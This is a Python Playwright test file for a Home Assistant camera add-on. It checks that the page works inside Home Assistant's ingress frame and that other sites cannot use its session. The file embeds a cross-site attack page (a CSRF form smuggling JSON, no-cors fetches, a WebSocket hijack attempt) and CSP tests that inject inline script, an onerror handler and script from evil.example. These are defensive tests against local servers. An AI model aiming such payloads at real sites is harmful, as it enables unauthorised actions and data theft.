"""The page inside Home Assistant: in its frame, under its path, without a token; and what other sites cannot do."""

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import expect
from tests.support.ingress import PREFIX, home_assistant, serving_ingress
from tests.support.page import BROWSER, LOOK_MS, browser_page, confirmed, home
from tests.support.web_app import serving_api

from marengocam.media.store import Store

pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium on this machine; ./script/test installs it")
expect.set_options(timeout=LOOK_MS)
ATTACK = """<!doctype html><title>evil</title><body>
<form id="form" method="post" enctype="text/plain" action="{target}/api/v1/persons">
<input name='{{"name": "Mallory", "x": "' value='"}}'></form>
<iframe name="frame"></iframe><img id="picture" src="{target}/api/v1/cameras/corridor/snapshot.jpg">
<script>
window.tried = (async () => {{
  const said = [];
  await fetch("{target}/api/v1/persons", {{ method: "POST", mode: "no-cors", body: '{{"name": "Mallory"}}' }})
    .then((answer) => said.push(answer.type), () => said.push("refused"));
  await fetch("{target}/api/v1/cameras").then(() => said.push("read"), () => said.push("refused"));
  await new Promise((done) => {{
    const socket = new WebSocket("{target}/api/v1/events/stream".replace("http", "ws"));
    socket.onmessage = () => {{ said.push("heard"); done(); }};
    socket.onerror = () => {{ said.push("refused"); done(); }};
  }});
  document.getElementById("form").target = "frame";
  document.getElementById("form").submit();
  await new Promise((done) => {{ document.getElementsByName("frame")[0].onload = done; }});
  said.push(document.getElementById("picture").naturalWidth ? "seen" : "hidden");
  return said;
}})();
</script>"""


async def test_home_assistant_shows_the_page_in_its_frame_without_a_token(hub, hub_settings):
    async with serving_ingress(hub, hub_settings) as ingress, home_assistant(ingress) as outside:
        store, clock = Store(hub_settings.media_dir), ingress.context.clock
        (track, _), _ = await home(hub, store, clock.now())
        alice = await hub.persons.add("Alice", clock.now())
        async with browser_page(outside) as tab:
            page = tab.frame_locator("iframe")
            await expect(page.locator("#cameras")).to_contain_text("Corridor")
            await expect(page.get_by_label("Token")).to_be_hidden()
            await expect(page.get_by_role("button", name="Forget token")).to_be_hidden()
            await confirmed(hub, clock, track, alice)
            await expect(page.locator("#events li").first).to_contain_text("Alice on Corridor")
            frame = next(frame for frame in tab.frames if PREFIX in frame.url)
            await frame.wait_for_function("() => document.querySelector('.camera img').naturalWidth === 640")
            await page.get_by_label("Name of this person").first.fill("Bob")
            await page.get_by_role("button", name="Name").first.click()
            await expect(page.locator("#persons")).to_contain_text("Bob")
            await page.locator("#why-at").fill("2020-01-01T10:32:00")
            await page.get_by_role("button", name="Why?").click()
            await expect(page.locator("#replay-error")).to_contain_text("not recorded at that moment")
            assert await frame.evaluate("() => sessionStorage.length") == 0
        (word,) = await hub.words.list(1)
        assert word.said_by == "Anna", "the Supervisor told who is logged in"


async def test_another_sites_page_can_use_neither_the_session_nor_the_frame(hub, hub_settings):
    """Its browser sends the session along, as a cookie of Home Assistant's would; here the proxy lets everybody in."""
    async with serving_ingress(hub, hub_settings) as ingress, home_assistant(ingress) as outside:
        await home(hub, Store(hub_settings.media_dir), ingress.context.clock.now())
        runner, elsewhere = await _serve_page(ATTACK.format(target=outside + PREFIX))
        try:
            async with browser_page(elsewhere) as tab:
                said = await tab.evaluate("() => window.tried")
                tab.complaints.clear()  # that its frame shows nothing of ours is as it should be
        finally:
            await runner.cleanup()
        assert said == ["refused", "refused", "refused", "hidden"], "Cross-Origin-Resource-Policy hides all answers"
        assert await hub.persons.list() == []


async def test_the_pages_policy_stops_injected_code_and_foreign_frames(hub, hub_settings):
    async with serving_api(hub, hub_settings) as api, aiohttp.ClientSession() as session:
        async with session.get(api.address) as answer:
            policy = answer.headers["Content-Security-Policy"]
            assert "unsafe" not in policy
            assert "frame-ancestors 'none'" in policy
        runner, elsewhere = await _serve_page(f'<!doctype html><iframe id="frame" src="{api.address}/"></iframe>')
        try:
            async with browser_page(api.address) as tab:
                ran = await tab.evaluate(
                    """async () => {
                      const blocked = [];
                      document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
                      const code = document.createElement("script");
                      code.textContent = "window.injected = true";
                      document.body.append(code);
                      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.injected = true'>");
                      const other = document.createElement("script");
                      other.src = "https://evil.example/x.js";
                      document.body.append(other);
                      await fetch("https://evil.example/").catch(() => {});
                      const wanted = ["script-src-elem", "script-src-attr", "connect-src"];
                      for (let tries = 0; tries < 100 && wanted.some((one) => !blocked.includes(one)); tries++) {
                        await new Promise((done) => setTimeout(done, 100));
                      }
                      return { injected: window.injected ?? false, blocked };
                    }"""
                )
                assert ran["injected"] is False
                assert {"script-src-elem", "script-src-attr", "connect-src"} <= set(ran["blocked"])
                tab.complaints.clear()  # they were provoked
            async with browser_page(elsewhere) as tab:
                await tab.wait_for_load_state("load")
                assert not any(frame.url.startswith(api.address) for frame in tab.frames)
                tab.complaints.clear()
        finally:
            await runner.cleanup()


async def _serve_page(text):
    async def page(_request):
        return web.Response(text=text, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app, shutdown_timeout=1)
    await runner.setup()
    await web.TCPSite(runner, "localhost", 0).start()
    return runner, f"http://localhost:{runner.addresses[0][1]}"
